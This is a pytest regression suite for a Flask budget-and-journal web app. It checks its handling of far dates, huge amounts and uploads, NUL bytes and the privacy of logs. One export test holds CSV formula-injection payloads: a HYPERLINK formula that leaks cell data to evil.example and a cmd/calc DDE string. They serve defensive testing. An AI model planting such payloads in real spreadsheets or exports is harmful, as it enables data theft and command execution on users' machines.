"""Bad input that broke the app (issue 11, hole 8): each test replays the attack that was found.

Far dates in addresses and forms, huge amounts, a GET that wrote data, CSV formulas, huge CSV
imports and requests, control characters (a NUL byte) in text. Runs on SQLite and PostgreSQL.
"""

import csv
import io
import logging
from datetime import date

import pytest
import sqlalchemy as sa
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from webapp.accounts.models import Group, Role
from webapp.budget import money
from webapp.budget.models import Entry, OwnCategory
from webapp.dashboard.models import Assignment
from webapp.dashboard.services import assign
from webapp.extensions import db
from webapp.journal.models import Goal, GoalStep, JournalEntry

TODAY = date.today()
HUGE = "9" * 5000


@pytest.fixture
def trainee(make_user, make_group, login):
    user = make_user(group=make_group())
    login(user)
    return user


def count(model) -> int:
    return db.session.scalar(sa.select(sa.func.count()).select_from(model))


def add(client, amount="12,50", day=None, note="", client_id="e1", category="food"):
    return client.post(
        "/budget/entries",
        data={
            "amount": amount,
            "category": category,
            "client_id": client_id,
            "kind": "expense",
            "day": day or TODAY.isoformat(),
            "note": note,
        },
        headers={"Accept-Language": "en"},
    )


def write(client, text="Bonne journée", day=None, client_id="j1"):
    return client.post(
        "/journal/write",
        data={
            "mood": "4",
            "text": text,
            "goal_id": "0",
            "day": day or TODAY.isoformat(),
            "client_id": client_id,
        },
        headers={"Accept-Language": "en"},
    )


# --- dates: 2000-01-01 to 2100-12-31, in addresses and in forms ------------------------------


@pytest.mark.parametrize(
    "month",
    [
        "9999-12",
        "1-1",
        "1999-12",
        "2101-1",
        "0-1",
        "99999999999999999999-1",
        "2026-99999999999999999999",
    ],
)
@pytest.mark.parametrize("page", ["/budget", "/journal/month"])
def test_months_outside_2000_to_2100_in_an_address_are_not_found(client, trainee, page, month):
    response = client.get(f"{page}/{month}")
    assert response.status_code == 404
    assert "does not exist" in response.text or "n’existe pas" in response.text


@pytest.mark.parametrize("month", ["2000-1", "2100-12"])
@pytest.mark.parametrize("page", ["/budget", "/journal/month"])
def test_first_and_last_plausible_months_open(client, trainee, page, month):
    html = client.get(f"{page}/{month}").text
    assert f'href="{page}/1999-12"' not in html  # no link to a month that is not found


def test_a_csv_line_dated_9999_is_a_line_with_a_problem(client, trainee):
    text = "31/12/9999;dépense;5;food;\n01/01/1999;dépense;5;food;\n02/05/2026;dépense;3;food;\n"
    preview = client.post(
        "/budget/import", data={"text": text, "file": ""}, headers={"Accept-Language": "en"}
    )
    assert preview.status_code == 303
    assert list(db.session.scalars(sa.select(Entry.cents))) == [300]
    preview = upload(client, text.encode(), **{"Accept-Language": "en"})
    assert preview.text.count("Choose a date between") == 2


def test_the_shared_date_rules_as_pure_functions():
    from webapp.core.dates import LATEST, parse_day, plausible

    assert plausible(date(2000, 1, 1)) and plausible(LATEST)
    assert not plausible(date(1999, 12, 31)) and not plausible(date(2101, 1, 1))
    assert parse_day("2026-05-04") == date(2026, 5, 4)
    for text in (
        "9999-12-31",
        "0001-01-01",
        "2026-13-01",
        "",
        None,
        "2026-05-04T10:00",
        "9" * 5000,
    ):
        assert parse_day(text) is None


def test_a_budget_entry_dated_9999_is_refused_next_to_the_field(client, trainee):
    for day in ("9999-12-31", "1999-12-31", "2101-01-01"):
        response = add(client, day=day, client_id=f"far-{day}")
        assert response.status_code == 200
        assert 'id="day-error"' in response.text and "2000" in response.text
    assert count(Entry) == 0
    assert add(client, day="2100-12-31", client_id="edge").status_code == 303


def test_editing_a_budget_entry_to_a_far_date_is_refused(client, trainee):
    add(client)
    entry = db.session.scalar(sa.select(Entry))
    response = client.post(
        f"/budget/entries/{entry.id}",
        data={"amount": "5", "kind": "expense", "category": "food", "day": "9999-12-31"},
        headers={"Accept-Language": "en"},
    )
    assert response.status_code == 200 and 'id="day-error"' in response.text
    db.session.refresh(entry)
    assert entry.day == TODAY


def test_journal_dates_outside_the_range_are_refused_next_to_the_field(client, trainee):
    response = write(client, day="9999-12-31")
    assert 'id="day-error"' in response.text and count(JournalEntry) == 0
    goal = client.post(
        "/journal/goals/new",
        data={"title": "Permis", "target_on": "1900-01-01", "client_id": "g1"},
        headers={"Accept-Language": "en"},
    )
    assert 'id="target_on-error"' in goal.text and count(Goal) == 0
    client.post("/journal/goals/new", data={"title": "Permis", "client_id": "g2"})
    goal = db.session.scalar(sa.select(Goal))
    step = client.post(
        f"/journal/goals/{goal.id}",
        data={"step-text": "Code", "step-due_on": "3000-01-01"},
        headers={"Accept-Language": "en"},
    )
    assert 'id="step-due_on-error"' in step.text and count(GoalStep) == 0


def test_assignment_due_dates_outside_the_range_are_refused(
    app, make_group, make_user, login, client
):
    group = make_group()
    teacher = make_user(Role.TEACHER, group=group)
    login(teacher)
    response = client.post(
        f"/dashboard/groups/{group.id}/assign",
        data={"target": "module:fle-a1", "due_on": "9999-12-31", "client_id": "a1"},
        headers={"Accept-Language": "en"},
    )
    assert response.status_code == 200 and 'id="due_on-error"' in response.text
    assert count(Assignment) == 0
    assignment = assign(teacher, group, "a2", "module", "fle-a1", None, "", [])
    response = client.post(f"/dashboard/assignments/{assignment.id}", data={"due_on": "0001-01-01"})
    assert response.status_code == 303
    db.session.refresh(assignment)
    assert assignment.due_on is None


def test_group_dates_outside_the_range_are_refused(make_group, make_user, login, client):
    site = make_group().site
    login(make_user(Role.ADMIN))
    response = client.post(
        "/groups/new",
        data={"site_id": site.id, "name": "G9", "starts_on": "2026-09-01", "ends_on": "9999-12-31"},
        headers={"Accept-Language": "en"},
    )
    assert response.status_code == 200 and 'id="ends_on-error"' in response.text
    assert db.session.scalar(sa.select(Group).where(Group.name == "G9")) is None


def test_an_entry_already_stored_in_9999_breaks_no_page(client, trainee):
    db.session.add(
        Entry(
            user_id=trainee.id,
            client_id="old",
            income=False,
            cents=100,
            day=date(9999, 12, 31),
            category="food",
            note="",
        )
    )
    db.session.add(
        JournalEntry(user_id=trainee.id, client_id="old", day=date(9999, 12, 31), mood=3, text="")
    )
    db.session.commit()
    entry = db.session.scalar(sa.select(Entry))
    for url in (
        "/budget",
        "/budget/export.csv",
        f"/budget/entries/{entry.id}",
        "/journal",
        "/journal/month",
        "/budget/compare/food",
    ):
        assert client.get(url).status_code == 200, url
    assert client.get("/budget/9999-12").status_code == 404
    # It can still be corrected or deleted.
    assert client.post(f"/budget/entries/{entry.id}/delete").status_code == 303


def test_sharing_a_far_month_is_not_found(client, trainee):
    response = client.post("/budget/share", data={"month": "9999-12-01", "share": "1"})
    assert response.status_code == 404


# --- amounts ---------------------------------------------------------------------------------


def test_a_5000_digit_amount_is_too_big_not_an_error():
    with pytest.raises(money.AmountError, match="too_big"):
        money.parse_amount(HUGE)
    with pytest.raises(money.AmountError, match="too_big"):
        money.parse_amount("0" * 4000 + "1" * 4000 + ",50")
    assert money.parse_amount("0" * 5000 + "12,50") == 1250


def test_a_5000_digit_amount_in_the_form_gets_a_message(client, trainee):
    response = add(client, amount=HUGE)
    assert response.status_code == 200
    assert 'id="amount-error"' in response.text and "too big" in response.text
    response = client.post(
        "/budget/recurring",
        data={"amount": HUGE, "kind": "expense", "category": "rent", "day_of_month": "1"},
        headers={"Accept-Language": "en"},
    )
    assert response.status_code == 200 and "too big" in response.text
    assert count(Entry) == 0


def test_a_5000_digit_amount_in_a_csv_is_a_line_with_a_problem(client, trainee):
    text = f"01/05/2026;dépense;{HUGE};food;\n02/05/2026;dépense;3;food;\n"
    preview = client.post(
        "/budget/import",
        data={"file": (io.BytesIO(text.encode()), "b.csv")},
        headers={"Accept-Language": "en"},
        content_type="multipart/form-data",
    )
    assert preview.status_code == 200 and "The amount must look like" in preview.text
    assert client.post("/budget/import", data={"text": text}).status_code == 303
    assert list(db.session.scalars(sa.select(Entry.cents))) == [300]


# --- a GET never writes; recurring items are computed for display -----------------------------


def recurring(client, rent_day=31):
    client.post(
        "/budget/recurring",
        data={"amount": "900", "kind": "income", "category": "salary", "day_of_month": "5"},
    )
    client.post(
        "/budget/recurring",
        data={
            "amount": "400",
            "kind": "expense",
            "category": "rent",
            "day_of_month": str(rent_day),
            "note": "loyer",
        },
    )


def test_viewing_months_far_ahead_writes_nothing(client, trainee):
    recurring(client)
    before = count(Entry)
    for url in (
        "/budget/2500-01",
        "/budget/2999-12",
        "/budget/2100-12",
        "/budget/2099-06",
        "/budget",
        f"/budget/{TODAY.year}-{TODAY.month}",
        "/",
    ):
        client.get(url)
    assert count(Entry) == before
    # The current month still counts rent and salary; the export holds no future month.
    page = client.get("/budget").text
    assert "500,00" in page and "loyer" in page
    exported = client.get("/budget/export.csv").data.decode("utf-8-sig")
    days = [row[0] for row in csv.reader(io.StringIO(exported), delimiter=";")][1:]
    assert len(days) == 2
    assert all(date(int(d[6:]), int(d[3:5]), 1) <= TODAY for d in days)


def test_stopping_a_recurring_item_keeps_the_months_it_was_paid(client, trainee):
    # Due on the 1st: already paid this month whatever today's date (a rent due on the 31st
    # is not paid yet on the 1st, and stopping it then rightly keeps no line).
    recurring(client, rent_day=1)
    items = client.get("/budget/recurring").text
    assert "loyer" in items
    from webapp.budget.models import RecurringItem

    rent = db.session.scalar(sa.select(RecurringItem).where(RecurringItem.category == "rent"))
    assert client.post(f"/budget/recurring/{rent.id}/stop").status_code == 303
    page = client.get("/budget").text
    assert "loyer" in page  # this month's rent is kept in the history
    assert (
        db.session.scalar(
            sa.select(sa.func.count()).select_from(Entry).where(Entry.recurring_id == rent.id)
        )
        == 1
    )
    client.post(f"/budget/recurring/{rent.id}/stop")  # twice: still one
    assert (
        db.session.scalar(
            sa.select(sa.func.count()).select_from(Entry).where(Entry.recurring_id == rent.id)
        )
        == 1
    )


# --- CSV: formulas, size ----------------------------------------------------------------------


def test_budget_csv_export_neutralises_formulas(client, trainee):
    add(client, note='=HYPERLINK("http://evil.example/?"&A1;"Cliquez")', client_id="f1")
    db.session.add(OwnCategory(user_id=trainee.id, name="+cmd|' /C calc'!A0"))
    db.session.commit()
    own = db.session.scalar(sa.select(OwnCategory))
    add(client, note="@SUM(1+1)", client_id="f2", category=f"c{own.id}")
    add(client, note="-2+3", client_id="f3")
    text = client.get("/budget/export.csv").data.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert '\'=HYPERLINK("http://evil.example/?"&A1;"Cliquez")' in cells
    assert "'+cmd|' /C calc'!A0" in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells


def test_the_export_imports_back_with_its_notes_as_typed(client, trainee):
    add(client, note="=1+1", client_id="f1")
    text = client.get("/budget/export.csv").data.decode("utf-8")
    db.session.execute(sa.delete(Entry))
    db.session.commit()
    client.post("/budget/import", data={"text": text})
    assert db.session.scalar(sa.select(Entry.note)) == "=1+1"


def csv_lines(number: int) -> str:
    return "".join(
        f"{day % 28 + 1:02d}/05/2026;dépense;{day % 90 + 1},50;food;n{day}\n"
        for day in range(number)
    )


def upload(client, body: bytes, **headers):
    """Post a file, encoded here: the test client's own encoding of a body over 500 kB spools
    to a temporary file that it never closes."""
    boundary, data = encode_multipart({"file": FileStorage(io.BytesIO(body), "b.csv")})
    return client.post(
        "/budget/import",
        data=data,
        headers=headers,
        content_type=f"multipart/form-data; boundary={boundary}",
    )


def test_a_50000_line_csv_file_is_refused_with_a_message_not_cut(client, trainee):
    big = csv_lines(50_000).encode()
    assert len(big) < 2 * 1024 * 1024
    response = upload(client, big, **{"Accept-Language": "en"})
    assert response.status_code == 200
    assert "at most 1,000 lines" in response.text and "Preview" not in response.text
    assert 'name="text"' not in response.text
    assert count(Entry) == 0


def test_a_50000_line_hidden_field_is_refused_and_imports_nothing(client, trainee):
    response = client.post(
        "/budget/import", data={"text": csv_lines(1_001)}, headers={"Accept-Language": "en"}
    )
    assert response.status_code == 200 and "at most 1,000 lines" in response.text
    assert count(Entry) == 0
    assert client.post("/budget/import", data={"text": csv_lines(1_000)}).status_code == 303
    assert count(Entry) == 1_000


def test_a_request_over_2_mb_gets_a_friendly_413_in_the_users_language(app, client, trainee):
    assert app.config["MAX_CONTENT_LENGTH"] == 2 * 1024 * 1024
    huge = b"01/05/2026;depense;5;food;\n" * 100_000
    for language, words in (("en", "too large"), ("fr", "trop"), ("ar", "كبير")):
        client.post("/language", data={"lang": language})
        response = upload(client, huge)
        assert response.status_code == 413
        assert words in response.text and 'href="/"' in response.text
    assert count(Entry) == 0


# --- control characters -----------------------------------------------------------------------


def test_control_characters_go_but_lines_and_tabs_stay_in_multiline_text():
    from webapp.core import text as clean

    assert clean.multiline("a\x00b\x1b[31mc\x7f\x85d\r\ne\tf") == "ab[31mcd\ne\tf"
    assert clean.single_line("a\x00b\nc\td\u2028e") == "ab c d e"
    assert clean.multiline("\ud800ok") == "ok"  # a lone surrogate cannot be stored either
    assert clean.multiline("مرحبا\u200f écrit") == "مرحبا\u200f écrit"  # bidi marks are text


def test_a_nul_byte_in_a_journal_entry_is_removed_not_a_500(client, trainee, caplog):
    caplog.set_level(logging.DEBUG)
    response = write(client, text="Mon secret\x00 du jour\n\tdeux lignes")
    assert response.status_code == 303
    assert db.session.scalar(sa.select(JournalEntry.text)) == "Mon secret du jour\n\tdeux lignes"
    assert "secret" not in caplog.text


def test_nul_bytes_are_removed_from_every_kind_of_input(client, trainee):
    assert add(client, note="courses\x00\x1b", client_id="n\x00").status_code == 303
    assert db.session.scalar(sa.select(Entry.note)) == "courses"
    assert client.post("/budget/categories", data={"name": "Can\x00tine\nbis"}).status_code == 303
    assert db.session.scalar(sa.select(OwnCategory.name)) == "Cantine bis"
    client.post(
        "/journal/goals/new",
        data={
            "title": "Per\x00mis",
            "why": "a\x00\nb",
            "steps": "Co\x00de\nConduite",
            "client_id": "g\x00",
        },
    )
    goal = db.session.scalar(sa.select(Goal))
    assert (goal.title, goal.why, [s.text for s in goal.steps]) == (
        "Permis",
        "a\nb",
        ["Code", "Conduite"],
    )
    # In an address too, and in the CSV import.
    assert client.get("/journal/goals/new?from=\x00").status_code == 200
    text = "01/05/2026;dépense;5;food;no\x00te\x1b\n"
    client.post("/budget/import", data={"text": text})
    assert "note" in db.session.scalars(sa.select(Entry.note)).all()


def test_an_admin_search_with_a_nul_byte_is_not_a_500(make_user, login, client):
    login(make_user(Role.ADMIN))
    assert client.get("/admin/audit?trainee=a%00b&staff=%00").status_code == 200


def test_an_unexpected_error_never_prints_the_private_text_in_the_log(
    app, client, trainee, monkeypatch, caplog
):
    from webapp.journal import services

    def broken(*args, **kwargs):
        raise ValueError(f"cannot store {args[4]!r}")  # like a database error with parameters

    monkeypatch.setattr(services, "write_entry", broken)
    caplog.set_level(logging.DEBUG)
    response = write(client, text="je bois encore trop")
    assert response.status_code == 500
    assert "Unhandled error" in caplog.text and "ValueError" in caplog.text
    assert "je bois" not in caplog.text


# --- numbers in addresses and forms -----------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "/budget/entries/99999999999999999999999",
        "/journal/goals/99999999999999999999999",
        f"/budget/entries/{HUGE}",
        f"/budget/{HUGE}-1",
    ],
)
def test_a_huge_id_in_an_address_is_not_found(client, trainee, url):
    assert client.get(url).status_code == 404


def test_every_form_cleans_its_text_and_checks_its_dates(app):
    """A new form cannot forget: every form class of the app derives from the core Form."""
    from flask_wtf import FlaskForm

    from webapp.core.forms import Form
    from webapp.journal.forms import assessment_form

    with app.test_request_context():
        assessment_form()
    found, todo = set(), [FlaskForm]
    while todo:
        for child in todo.pop().__subclasses__():
            found.add(child)
            todo.append(child)
    mine = {form for form in found if form.__module__.startswith("webapp.")}
    assert len(mine) > 15
    assert [form.__qualname__ for form in mine if not issubclass(form, Form)] == []


def test_json_sent_to_the_app_is_cleaned_too(app):
    from flask import request

    with app.test_request_context("/", method="POST", json={"t\x00": ["a\x00b", {"c": "d\x1b"}]}):
        assert request.get_json() == {"t": ["ab", {"c": "d"}]}


def test_a_revision_answer_dated_year_9999_in_another_time_zone_is_not_a_500(
    client, make_user, make_group, login, bank
):
    login(make_user(group=make_group()))
    response = client.post(
        "/revision/answer",
        data={
            "question_id": bank[0]["id"],
            "choice": "x",
            "mode": "practice",
            "client_id": "r1",
            "answered_at": "9999-12-31T23:59:59-05:00",
        },
    )
    assert response.status_code in (200, 303, 422)  # "x" is no choice: asked again, never a 500


def test_a_huge_number_in_a_form_field_is_not_a_500(make_group, make_user, login, client):
    group = make_group()
    login(make_user(Role.ADMIN))
    response = client.post(
        f"/groups/{group.id}/staff", data={"user_id": "9" * 30, "action": "attach"}
    )
    assert response.status_code == 404
